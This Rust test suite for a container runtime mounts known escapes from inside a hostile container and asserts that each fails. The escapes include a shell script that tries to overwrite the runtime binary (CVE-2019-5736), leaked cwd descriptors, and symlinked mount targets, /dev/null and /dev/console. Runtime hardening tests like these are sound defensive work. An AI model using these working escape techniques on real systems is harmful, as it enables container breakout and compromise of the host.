//! Attacking tests: the container is hostile. Each test mounts one known
//! runtime escape and asserts that it FAILS under the runtime under test.
//!
//! Against runc 1.1.5 (Debian 12) some of these escapes succeed; those tests
//! say RUNC-VULNERABLE in their doc comment and are expected to fail when
//! COVE_OCI_BIN is runc. Run them against runc to see the contrast.
//!
//! Every attack works on private copies: a copy of the runtime binary, a
//! private rootfs, escape targets under unique names; the only host state an
//! attack can touch is /proc/sys/kernel/core_pattern, which a guard restores.

mod support;

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use support::*;

// ---------------------------------------------------------------- helpers

/// A private, writable busybox rootfs in `dir/rootfs`.
fn private_rootfs(dir: &TempDir) -> PathBuf {
    let rootfs = dir.join("rootfs");
    minimal_busybox_rootfs(&rootfs).unwrap_or_else(|e| panic!("private rootfs: {e}"));
    rootfs
}

/// A copy of the runtime under test, so that a successful overwrite
/// cannot break the workspace binary.
fn runtime_copy(env: &Env, dir: &TempDir) -> PathBuf {
    let name = env
        .bin
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_else(|| "runtime".into());
    let copy = dir.join(&name);
    fs::copy(&env.bin, &copy)
        .unwrap_or_else(|e| panic!("copy {} -> {}: {e}", env.bin.display(), copy.display()));
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755))
        .unwrap_or_else(|e| panic!("chmod {}: {e}", copy.display()));
    copy
}

fn use_rootfs(ct: &mut Ct, rootfs: &Path) {
    ct.config["root"]["path"] = json!(rootfs.display().to_string());
}

fn add_mount(ct: &mut Ct, mount: Value) {
    match ct.config["mounts"].as_array_mut() {
        Some(mounts) => mounts.push(mount),
        None => ct.config["mounts"] = json!([mount]),
    }
}

/// A host directory the container can write its findings to, at /report.
fn add_report_dir(ct: &mut Ct, rootfs: &Path, host_dir: &Path) {
    fs::create_dir_all(host_dir).unwrap_or_else(|e| panic!("mkdir {}: {e}", host_dir.display()));
    fs::create_dir_all(rootfs.join("report")).unwrap_or_else(|e| panic!("mkdir report: {e}"));
    add_mount(
        ct,
        json!({"destination": "/report", "type": "bind", "source": host_dir.display().to_string(), "options": ["rbind", "rw"]}),
    );
}

fn read(path: &Path) -> String {
    fs::read_to_string(path).unwrap_or_default()
}

fn wait_until(timeout: Duration, mut done: impl FnMut() -> bool) -> bool {
    let deadline = Instant::now() + timeout;
    loop {
        if done() {
            return true;
        }
        if Instant::now() >= deadline {
            return false;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

// ---------------------------------------------------------------- a. CVE-2019-5736

/// Runs as the init of the attacking container. It scans /proc for any
/// process whose executable is not the container's busybox, opens that
/// executable read-only (as the original exploit held an O_PATH fd; this
/// needs the process to be dumpable and its capabilities to be a subset of
/// the attacker's, which is what a runtime process is once it has dropped
/// to the container's privileges just before execve) and,
/// in the background, keeps reopening it for writing through
/// /proc/self/fd/3 until the process is gone and ETXTBSY lifts, for about
/// 2 s. Findings go to /report/log; /report/scans shows it is alive.
const EXE_ATTACKER: &str = r#"
log=/report/log
echo "attacker up pid $$" >> $log
n=0; opened=""; denied=""
while :; do
  n=$((n+1)); echo $n > /report/scans
  for p in /proc/[0-9]*; do
    [ -L "$p/exe" ] || continue
    [ "$p/exe" -ef /bin/busybox ] && continue
    pid=${p#/proc/}
    case " $opened " in *" $pid "*) continue;; esac
    if { command exec 3<"$p/exe"; } 2>/dev/null; then
      # It exec'd the container's own busybox meanwhile: not a host file.
      if [ /proc/self/fd/3 -ef /bin/busybox ]; then command exec 3<&-; continue; fi
      opened="$opened $pid"
      echo "OPENED pid $pid exe $(readlink /proc/self/fd/3) cmdline $(tr '\0' ' ' < $p/cmdline 2>/dev/null)" >> $log
      ( i=0
        while [ $i -lt 200 ]; do
          if { command exec 4>>/proc/self/fd/3; } 2>/dev/null; then
            echo "pwned by container" >&4 && echo "WROTE through pid $pid" >> $log && exit 0
          fi
          i=$((i+1)); usleep 10000
        done
        echo "GAVE UP pid $pid" >> $log ) &
      command exec 3<&-
    else
      # Denied now, tried again on every scan: the same pid may exec
      # something else, or drop its capabilities, a moment later.
      # Gone, or a zombie (its exe link no longer resolves): not a target.
      { read -r st < "$p/stat"; } 2>/dev/null || continue
      case "$st" in *") Z "*) continue;; esac
      case " $denied " in *" $pid "*) ;; *) denied="$denied $pid"; echo "DENIED pid $pid" >> $log;; esac
    fi
  done
done
"#;

/// Fields drop in order: the attacking container goes before its rootfs.
struct ExeAttack {
    attacker: Ct,
    env: Env,
    copy: PathBuf,
    hash_before: String,
    report: PathBuf,
    _dir: TempDir,
}

impl ExeAttack {
    fn start(test: &str) -> Option<ExeAttack> {
        let env = prerequisites(test)?;
        let dir = TempDir::new(test);
        let copy = runtime_copy(&env, &dir);
        let hash_before = sha256_of(&copy);
        let rootfs = private_rootfs(&dir);
        // The classic vector: a script whose interpreter is the runtime
        // itself, for the runtime to execve while it is still its own image.
        let evil = rootfs.join("bin/evilsh");
        write_file(&evil, "#!/proc/self/exe\n").unwrap_or_else(|e| panic!("{e}"));
        fs::set_permissions(&evil, fs::Permissions::from_mode(0o755))
            .unwrap_or_else(|e| panic!("chmod: {e}"));
        let report = dir.join("report");
        let mut attacker = Ct::with_bin(&env, test, &copy);
        use_rootfs(&mut attacker, &rootfs);
        add_report_dir(&mut attacker, &rootfs, &report);
        attacker.sh(EXE_ATTACKER);
        attacker.run_detached().assert_ok();
        let scans = report.join("scans");
        let alive = wait_until(Duration::from_secs(3), || {
            read(&scans).trim().parse::<u32>().unwrap_or(0) > 2
        });
        assert!(
            alive,
            "the attacker never started scanning: {}",
            read(&report.join("log"))
        );
        Some(ExeAttack {
            attacker,
            env,
            copy,
            hash_before,
            report,
            _dir: dir,
        })
    }

    fn log(&self) -> String {
        read(&self.report.join("log"))
    }

    /// Waits for every background writer to finish, then judges.
    fn assert_binary_untouched(&self, what: &str) {
        wait_until(Duration::from_secs(4), || {
            let log = self.log();
            let opened = log.matches("OPENED").count();
            opened == log.matches("WROTE").count() + log.matches("GAVE UP").count()
        });
        let log = self.log();
        let hash_after = sha256_of(&self.copy);
        if std::env::var_os("COVE_TEST_SHOW").is_some() {
            eprintln!("{what}: attacker log:\n{log}");
        }
        eprintln!(
            "{what}: the attacker saw {} foreign executables, opened {}, denied {}",
            log.matches("OPENED").count() + log.matches("DENIED").count(),
            log.matches("OPENED").count(),
            log.matches("DENIED").count()
        );
        assert!(
            hash_after == self.hash_before && !log.contains("WROTE"),
            "ESCAPE ({what}): the container overwrote the runtime binary {}\n\
             sha256 before {} after {}\nattacker log:\n{log}",
            self.copy.display(),
            self.hash_before,
            hash_after
        );
    }
}

/// CVE-2019-5736 during exec: the runtime process that joins the container
/// must never expose a writable handle on the host binary, neither while
/// it sets up nor when it is made to execute itself through
/// `#!/proc/self/exe`.
#[test]
fn exec_cannot_overwrite_the_runtime_binary() {
    let test = "exec_cannot_overwrite_the_runtime_binary";
    let Some(attack) = ExeAttack::start(test) else {
        return;
    };
    let mut outcomes = Vec::new();
    for _ in 0..8 {
        outcomes.push(attack.attacker.exec(&[], &["true"]));
        outcomes.push(attack.attacker.exec(&[], &["/bin/evilsh"]));
    }
    if std::env::var_os("COVE_TEST_SHOW").is_some() {
        outcomes.iter().take(2).for_each(|o| eprintln!("{o}"));
    }
    attack.assert_binary_untouched("exec");
}

/// CVE-2019-5736 during create: a container created into the pid namespace
/// of a running hostile container parks its init there until `start`; that
/// parked init must not be a writable view of the host binary.
#[test]
fn create_cannot_overwrite_the_runtime_binary() {
    let test = "create_cannot_overwrite_the_runtime_binary";
    let Some(attack) = ExeAttack::start(test) else {
        return;
    };
    let attacker_pid = attack
        .attacker
        .state_json()
        .ok()
        .and_then(|s| s["pid"].as_i64())
        .unwrap_or_else(|| {
            panic!(
                "no pid for the attacker: {:?}",
                attack.attacker.state_json()
            )
        });
    let mut victim = Ct::with_bin(&attack.env, test, &attack.copy);
    // The attacker's own rootfs: its busybox is then no foreign executable
    // (and the shared test rootfs is never a target).
    victim.config["root"] = attack.attacker.config["root"].clone();
    victim.args(&["true"]);
    for ns in victim.config["linux"]["namespaces"]
        .as_array_mut()
        .into_iter()
        .flatten()
    {
        if ns["type"] == "pid" {
            ns["path"] = json!(format!("/proc/{attacker_pid}/ns/pid"));
        }
    }
    let sightings = |log: &str| log.matches("OPENED").count() + log.matches("DENIED").count();
    let before = sightings(&attack.log());
    let created = victim.create();
    if created.ok() {
        // Give the attacker time to find the parked init (one scan takes a
        // few milliseconds), then let it exec.
        let seen = wait_until(Duration::from_secs(2), || sightings(&attack.log()) > before);
        eprintln!("parked init seen by the attacker: {seen}");
        let _ = victim.start();
        let _ = victim.wait_status("stopped", Duration::from_secs(2));
    } else {
        eprintln!("create into the attacker's pid namespace was refused:\n{created}");
    }
    attack.assert_binary_untouched("create");
}

// ---------------------------------------------------------------- b. CVE-2024-21626

const MARKER: &str = "cove-rootfs-marker";

/// Walks up physically from the cwd: inside the container this ends at its
/// root, which holds the marker; from a leaked host directory it ends at
/// the host's root, which does not.
fn cwd_probe() -> String {
    format!(
        r#"start=$(pwd -P 2>&1)
i=0; while [ $i -lt 40 ]; do cd -P .. 2>/dev/null; i=$((i+1)); done
if [ -e ./{MARKER} ]; then echo INSIDE; else echo "ESCAPED from cwd $start to a root with: $(ls | head -8 | tr '\n' ' ')"; fi"#
    )
}

fn marked_rootfs(dir: &TempDir) -> PathBuf {
    let rootfs = private_rootfs(dir);
    write_file(&rootfs.join(MARKER), "container root\n").unwrap_or_else(|e| panic!("{e}"));
    rootfs
}

#[track_caller]
fn assert_cwd_inside(out: &Out, what: &str) {
    assert!(
        !out.stdout.contains("ESCAPED"),
        "ESCAPE ({what}): the process got a cwd outside the container:\n{out}"
    );
    assert!(
        !out.ok() || out.stdout.contains("INSIDE"),
        "({what}) the probe neither refused nor ran:\n{out}"
    );
}

/// CVE-2024-21626: process.cwd naming a file descriptor the runtime may
/// have leaked must not put the container's process outside its root.
#[test]
fn process_cwd_through_proc_self_fd_stays_inside() {
    let test = "process_cwd_through_proc_self_fd_stays_inside";
    let Some(env) = prerequisites(test) else {
        return;
    };
    let dir = TempDir::new(test);
    let rootfs = marked_rootfs(&dir);
    let mut refused = Vec::new();
    for fd in 3..=10 {
        let mut ct = Ct::new(&env, test);
        use_rootfs(&mut ct, &rootfs);
        ct.sh(&cwd_probe());
        ct.config["process"]["cwd"] = json!(format!("/proc/self/fd/{fd}"));
        let out = ct.run();
        assert_cwd_inside(&out, &format!("process.cwd /proc/self/fd/{fd}"));
        if !out.ok() {
            refused.push(fd);
        }
    }
    eprintln!("process.cwd /proc/self/fd/N refused for N in {refused:?}, inside otherwise");
}

/// CVE-2024-21626 through `exec --cwd`.
#[test]
fn exec_cwd_through_proc_self_fd_stays_inside() {
    let test = "exec_cwd_through_proc_self_fd_stays_inside";
    let Some(env) = prerequisites(test) else {
        return;
    };
    let dir = TempDir::new(test);
    let rootfs = marked_rootfs(&dir);
    let mut ct = Ct::new(&env, test);
    use_rootfs(&mut ct, &rootfs);
    ct.sh("sleep 1000 & wait");
    ct.run_detached().assert_ok();
    let mut refused = Vec::new();
    for fd in 3..=10 {
        let cwd = format!("/proc/self/fd/{fd}");
        let out = ct.exec(&["--cwd", &cwd], &["sh", "-c", &cwd_probe()]);
        assert_cwd_inside(&out, &format!("exec --cwd {cwd}"));
        if !out.ok() {
            refused.push(fd);
        }
    }
    eprintln!("exec --cwd /proc/self/fd/N refused for N in {refused:?}, inside otherwise");
}

/// Open descriptors of the shell, listed by a child so that the listing's
/// own directory fd is not among them.
const FD_PROBE: &str = "ls -l /proc/$$/fd";

#[track_caller]
fn assert_only_stdio(out: &Out, what: &str) {
    out.assert_ok();
    let fds: Vec<&str> = out
        .stdout
        .lines()
        .filter_map(|l| l.split(" -> ").next().filter(|_| l.contains(" -> ")))
        .filter_map(|l| l.split_whitespace().last())
        .collect();
    assert_eq!(
        fds,
        ["0", "1", "2"],
        "{what}: descriptors beyond stdio reached the container:\n{out}"
    );
}

/// No host descriptor (a directory fd above all) survives into the
/// container's first process.
#[test]
fn container_process_starts_with_only_stdio_open() {
    let Some(env) = prerequisites("container_process_starts_with_only_stdio_open") else {
        return;
    };
    let mut ct = Ct::new(&env, "container_process_starts_with_only_stdio_open");
    ct.sh(FD_PROBE);
    assert_only_stdio(&ct.run(), "run");
}

#[test]
fn exec_process_starts_with_only_stdio_open() {
    let Some(env) = prerequisites("exec_process_starts_with_only_stdio_open") else {
        return;
    };
    let mut ct = Ct::new(&env, "exec_process_starts_with_only_stdio_open");
    ct.sh("sleep 1000 & wait");
    ct.run_detached().assert_ok();
    assert_only_stdio(&ct.exec(&[], &["sh", "-c", FD_PROBE]), "exec");
}

// ---------------------------------------------------------------- c. symlinked mount targets

/// Mount destinations that are symlinks pointing out of the rootfs, one
/// absolute (`/evil -> /tmp/cove-escape-U`) and one relative with `..`
/// (`/evil2 -> ../../../../tmp/cove-escape2-U`), with tmpfs mounted on
/// `/evil` and `/evil2/sub`. On the host, the first target does not exist
/// (a runtime following the link there would create it) and the second
/// does (it would gain `sub`).
fn symlinked_mount_targets(test: &str, targets_exist_inside: bool) {
    let Some(env) = prerequisites(test) else {
        return;
    };
    let dir = TempDir::new(test);
    let rootfs = private_rootfs(&dir);
    let tag = unique_name("esc");
    let escape1 = PathBuf::from(format!("/tmp/cove-escape-{tag}"));
    let escape2 = PathBuf::from(format!("/tmp/cove-escape2-{tag}"));
    let _cleanup = EscapeDirs(vec![escape1.clone(), escape2.clone()]);
    fs::create_dir_all(&escape2).unwrap_or_else(|e| panic!("mkdir {}: {e}", escape2.display()));
    symlink(&escape1, rootfs.join("evil")).unwrap_or_else(|e| panic!("symlink evil: {e}"));
    symlink(
        format!("../../../../tmp/cove-escape2-{tag}"),
        rootfs.join("evil2"),
    )
    .unwrap_or_else(|e| panic!("symlink evil2: {e}"));
    let inside1 = rootfs.join(format!("tmp/cove-escape-{tag}"));
    let inside2 = rootfs.join(format!("tmp/cove-escape2-{tag}/sub"));
    if targets_exist_inside {
        for d in [&inside1, &inside2] {
            fs::create_dir_all(d).unwrap_or_else(|e| panic!("mkdir {}: {e}", d.display()));
        }
    }

    let mut ct = Ct::new(&env, test);
    use_rootfs(&mut ct, &rootfs);
    for dest in ["/evil", "/evil2/sub"] {
        add_mount(
            &mut ct,
            json!({"destination": dest, "type": "tmpfs", "source": "tmpfs", "options": ["size=1m"]}),
        );
    }
    ct.sh("grep -E 'cove-escape|evil' /proc/self/mountinfo | cut -d' ' -f5,9; echo done");
    let mounts_before = host_mounts();
    let out = ct.run();

    let dir_made = escape1.exists();
    let sub_made = escape2.join("sub").exists();
    let host_added: Vec<String> = new_mounts(&mounts_before, &host_mounts())
        .into_iter()
        .filter(|m| m.contains("cove-escape"))
        .collect();
    assert!(
        !dir_made && !sub_made && host_added.is_empty(),
        "ESCAPE: mounting on symlinks reached the host: {} created: {dir_made}, {}/sub created: {sub_made}, \
         host mounts: {host_added:?}\n{out}",
        escape1.display(),
        escape2.display()
    );
    if targets_exist_inside {
        // runc follows links that resolve inside the rootfs (images have
        // /var/run -> /run); refusing them would break such images.
        out.assert_ok();
    }
    if out.ok() {
        // Made, so made inside: the container sees its tmpfs mounts at the
        // paths the links resolve to within its own root.
        let seen: Vec<&str> = out
            .stdout
            .lines()
            .filter(|l| l.ends_with("tmpfs"))
            .collect();
        let want = [
            format!("/tmp/cove-escape-{tag} tmpfs"),
            format!("/tmp/cove-escape2-{tag}/sub tmpfs"),
        ];
        assert_eq!(
            seen, want,
            "the tmpfs mounts are not where the links resolve inside the rootfs:\n{out}"
        );
        assert!(
            inside1.is_dir() && inside2.is_dir(),
            "the mount points were not made inside the rootfs:\n{out}"
        );
    } else {
        eprintln!("the runtime refused the symlinked mount targets:\n{out}");
    }
}

/// The links point at nothing inside the rootfs: the runtime may create
/// the targets inside the rootfs or refuse, never create them on the host.
#[test]
fn mount_targets_symlinked_out_of_the_rootfs_stay_inside() {
    symlinked_mount_targets(
        "mount_targets_symlinked_out_of_the_rootfs_stay_inside",
        false,
    );
}

/// The links' targets exist inside the rootfs: the mounts must land there.
#[test]
fn mount_targets_symlinked_to_dirs_in_the_rootfs_mount_inside() {
    symlinked_mount_targets(
        "mount_targets_symlinked_to_dirs_in_the_rootfs_mount_inside",
        true,
    );
}

/// Removes escape targets a vulnerable runtime may have created on the host.
struct EscapeDirs(Vec<PathBuf>);

impl Drop for EscapeDirs {
    fn drop(&mut self) {
        for dir in &self.0 {
            let _ = fs::remove_dir_all(dir);
        }
    }
}

// ---------------------------------------------------------------- d. masked paths and /dev/null

const CORE_PATTERN: &str = "/proc/sys/kernel/core_pattern";

/// Puts the host's core_pattern back if an attack changed it.
struct CorePatternGuard(String);

impl Drop for CorePatternGuard {
    fn drop(&mut self) {
        if read(Path::new(CORE_PATTERN)) != self.0 {
            let _ = fs::write(CORE_PATTERN, self.0.trim_end());
        }
    }
}

/// CVE-2025-31133 shape: the rootfs brings its own /dev (the spec's /dev
/// tmpfs removed) in which /dev/null is a symlink to the host-global
/// /proc/sys/kernel/core_pattern. A runtime that masks paths by bind-
/// mounting "/dev/null" without checking it follows the link and mounts a
/// core_pattern over /proc/keys: writing the masked path then rewrites the
/// host's core_pattern, a known escape. A runtime that reopens the
/// container's stdio on "/dev/null" (as runc does when stdio looks like
/// /dev/null) hands the container the same file. The container writes a
/// harmless plain file name to its masked paths and to its stdio; a guard
/// puts the host's value back.
///
/// RUNC-VULNERABLE: runc 1.1.5 follows the symlink for the masks (read-only
/// there) and for its stdio (writable: the host's core_pattern changes).
/// Fixed in runc 1.2.8 / 1.3.3.
#[test]
fn masked_path_never_becomes_a_host_procfs_file() {
    let test = "masked_path_never_becomes_a_host_procfs_file";
    let Some(env) = prerequisites(test) else {
        return;
    };
    note_if_runc("runc 1.1.5 is vulnerable to CVE-2025-31133");
    let dir = TempDir::new(test);
    let rootfs = private_rootfs(&dir);
    symlink(CORE_PATTERN, rootfs.join("dev/null"))
        .unwrap_or_else(|e| panic!("symlink dev/null: {e}"));
    let original = read(Path::new(CORE_PATTERN));
    let _restore = CorePatternGuard(original.clone());
    let attack_value = format!("cove-escape-core-{}", std::process::id());

    let mut ct = own_dev_container(&env, test, &rootfs, &dir);
    ct.sh(&format!(
        r#"echo {attack_value}; echo {attack_value} >&2; echo {attack_value} >&0
exec > /report/out 2>&1
for p in /proc/keys /proc/timer_list /proc/kcore /proc/latency_stats /proc/timer_stats /proc/sched_debug /proc/acpi /sys/firmware; do
  [ -e $p ] || continue
  echo "$p: $(grep " $p " /proc/self/mountinfo | cut -d' ' -f4,9)"
  [ -f $p ] || [ -c $p ] || continue
  if ( echo {attack_value} > $p ); then echo "$p: write accepted"; else echo "$p: write refused"; fi
done
echo done"#
    ));
    let out = ct.run();
    let after = read(Path::new(CORE_PATTERN));
    let seen = read(&dir.join("report/out"));
    // Masks are /dev/null binds or tmpfs: a masked path backed by procfs
    // means the runtime followed the link.
    let procfs_masks: Vec<&str> = seen
        .lines()
        .filter(|l| l.contains(':') && l.trim_end().ends_with(" proc"))
        .collect();
    assert_eq!(
        after, original,
        "ESCAPE: the container changed the host's {CORE_PATTERN} (through a masked path or its stdio)\n\
         the container saw:\n{seen}\n{out}"
    );
    assert!(procfs_masks.is_empty(), "ESCAPE: masked paths are procfs files, not /dev/null: {procfs_masks:?}\nthe container saw:\n{seen}\n{out}");
    if out.ok() {
        assert!(
            seen.contains("done"),
            "the probe did not run to its end:\n{seen}\n{out}"
        );
    } else {
        eprintln!("the runtime refused a rootfs whose /dev/null is a symlink:\n{out}");
    }
}

/// A container whose rootfs brings its own /dev (no /dev tmpfs in the
/// spec), with its findings written to /report: the container's stdio
/// cannot be trusted once /dev/null is not /dev/null.
fn own_dev_container(env: &Env, test: &str, rootfs: &Path, dir: &TempDir) -> Ct {
    let mut ct = Ct::new(env, test);
    use_rootfs(&mut ct, rootfs);
    if let Some(mounts) = ct.config["mounts"].as_array_mut() {
        mounts.retain(|m| m["destination"] != "/dev");
    }
    add_report_dir(&mut ct, rootfs, &dir.join("report"));
    ct
}

/// The same rootfs, but /dev/null is a symlink to a regular file of the
/// container: masking must not turn the masked paths into that file.
///
/// The rootfs is writable here: runc 1.1.5 fails to remount a read-only
/// rootfs over the bind (EBUSY), which would hide the flaw.
///
/// RUNC-VULNERABLE: runc 1.1.5 binds the file over the masked paths.
#[test]
fn masked_path_never_becomes_what_a_dev_null_symlink_names() {
    let test = "masked_path_never_becomes_what_a_dev_null_symlink_names";
    let Some(env) = prerequisites(test) else {
        return;
    };
    note_if_runc("runc 1.1.5 is vulnerable to CVE-2025-31133");
    let dir = TempDir::new(test);
    let rootfs = private_rootfs(&dir);
    write_file(&rootfs.join("hostfile"), "secret\n").unwrap_or_else(|e| panic!("{e}"));
    symlink("/hostfile", rootfs.join("dev/null"))
        .unwrap_or_else(|e| panic!("symlink dev/null: {e}"));

    let mut ct = own_dev_container(&env, test, &rootfs, &dir);
    ct.config["root"]["readonly"] = json!(false);
    ct.sh(
        "exec > /report/out 2>&1
         for p in /proc/keys /proc/timer_list; do [ -e $p ] && echo \"$p: $(stat -c %F $p) $(head -c 20 $p)\"; done
         echo done",
    );
    let out = ct.run();
    let seen = read(&dir.join("report/out"));
    if std::env::var_os("COVE_TEST_SHOW").is_some() {
        eprintln!("{test}: the container saw:\n{seen}\n{out}");
    }
    assert!(
        !seen.contains("secret"),
        "a masked path shows the file /dev/null links to:\n{seen}\n{out}"
    );
    assert!(
        !seen.contains("regular file"),
        "a masked path is a regular file:\n{seen}\n{out}"
    );
    if out.ok() {
        assert!(
            seen.contains("done"),
            "the probe did not run to its end:\n{seen}\n{out}"
        );
    }
}

/// CVE-2025-52565 shape: with a terminal the runtime bind-mounts the pty
/// onto /dev/console. Here the rootfs brings its own /dev, where
/// /dev/console is an absolute symlink to a host directory: the runtime
/// must not create or mount anything there (resolving inside the rootfs,
/// replacing the link, or refusing are all fine).
#[test]
fn dev_console_symlink_never_reaches_the_host() {
    dev_console_symlink("dev_console_symlink_never_reaches_the_host", false);
}

/// As above, and the link's target exists inside the rootfs.
#[test]
fn dev_console_symlink_to_a_file_in_the_rootfs_never_reaches_the_host() {
    dev_console_symlink(
        "dev_console_symlink_to_a_file_in_the_rootfs_never_reaches_the_host",
        true,
    );
}

/// The body of the two /dev/console tests.
fn dev_console_symlink(test: &str, target_exists_inside: bool) {
    let Some(env) = prerequisites(test) else {
        return;
    };
    let dir = TempDir::new(test);
    let rootfs = private_rootfs(&dir);
    let escape = PathBuf::from(format!("/tmp/cove-escape-console-{}", unique_name("esc")));
    let _cleanup = EscapeDirs(vec![escape.clone()]);
    fs::create_dir_all(&escape).unwrap_or_else(|e| panic!("mkdir {}: {e}", escape.display()));
    symlink(escape.join("console"), rootfs.join("dev/console"))
        .unwrap_or_else(|e| panic!("symlink dev/console: {e}"));
    if target_exists_inside {
        let inside = rootfs.join(escape.strip_prefix("/").unwrap_or(&escape));
        fs::create_dir_all(&inside).unwrap_or_else(|e| panic!("mkdir {}: {e}", inside.display()));
        write_file(&inside.join("console"), "").unwrap_or_else(|e| panic!("{e}"));
    }

    let mut ct = own_dev_container(&env, test, &rootfs, &dir);
    ct.config["process"]["terminal"] = json!(true);
    ct.sh("exec > /report/out 2>&1
         stat -c '%n %F %t:%T' /dev/console
         cut -d' ' -f4,5,9 /proc/self/mountinfo | grep -E ' (/dev/console|/tmp/cove-escape-console[^ ]*) '
         echo done");
    ct.save_config();
    let console = ConsoleSocket::bind(&dir.join("console.sock"));
    let bundle = ct.bundle.display().to_string();
    let socket = console.path.display().to_string();
    let mounts_before = host_mounts();
    let out = ct.cmd(&[
        "create",
        "--bundle",
        &bundle,
        "--console-socket",
        &socket,
        &ct.id,
    ]);
    // Hold the pty master while the container runs: closing it would hang
    // up the container's terminal.
    let mut _master = None;
    if out.ok() {
        _master = Some(
            console
                .receive_master(Duration::from_secs(5))
                .unwrap_or_else(|e| panic!("{e}\n{out}")),
        );
        ct.start().assert_ok();
        ct.wait_status("stopped", Duration::from_secs(5));
    } else {
        eprintln!("the runtime refused a rootfs whose /dev/console is a symlink:\n{out}");
    }
    let seen = read(&dir.join("report/out"));
    if std::env::var_os("COVE_TEST_SHOW").is_some() {
        eprintln!("{test}: the container saw:\n{seen}\n{out}");
    }
    let host_added: Vec<String> = new_mounts(&mounts_before, &host_mounts())
        .into_iter()
        .filter(|m| m.contains("cove-escape"))
        .collect();
    let entries: Vec<String> = fs::read_dir(&escape)
        .map(|rd| {
            rd.filter_map(|e| e.ok())
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    assert!(
        entries.is_empty() && host_added.is_empty(),
        "ESCAPE: the console mount reached the host: {} now holds {entries:?}, host mounts {host_added:?}\n\
         the container saw:\n{seen}\n{out}",
        escape.display()
    );
    if out.ok() {
        assert!(
            seen.contains("done"),
            "the probe did not run to its end:\n{seen}\n{out}"
        );
    }
}
